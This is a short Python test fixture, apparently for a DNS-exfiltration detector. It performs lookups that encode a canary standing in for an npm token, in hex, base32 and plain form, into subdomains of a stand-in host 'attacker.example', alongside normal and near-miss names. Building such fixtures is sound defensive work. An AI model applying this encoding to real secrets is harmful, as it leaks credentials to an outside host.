#!/usr/bin/python3
"""DNS lookups through glibc getaddrinfo (connect :53 + sendmmsg A+AAAA).
Run three times by record.sh: default, RES_OPTIONS=single-request (sendto),
RES_OPTIONS=use-vc (TCP with 2-byte length prefix)."""
import base64, socket, sys

CANARY = "CANARY-npm-4f1c2a9e7d3b"

names = [
    "registry.npmjs.org",                                        # normal (any lookup: low/medium)
    "this-is-a-rather-long-but-ordinary-hostname.example.com",   # near miss: long, but words
    # the ~/.npmrc token hex- and base32-encoded into a label (encoded-data lookups)
    CANARY.encode().hex() + ".x7f3a9.attacker.example",
    base64.b32encode(CANARY.encode()).decode().rstrip("=") + ".x7f3a9.attacker.example",
    "CANARY-npm-4f1c2a9e7d3b.x7f3a9.attacker.example",          # canary verbatim in a name
]
only = sys.argv[1:] or names
for n in only:
    try:
        socket.getaddrinfo(n, 443, socket.AF_UNSPEC, socket.SOCK_STREAM)
    except OSError as e:
        print(n, e)
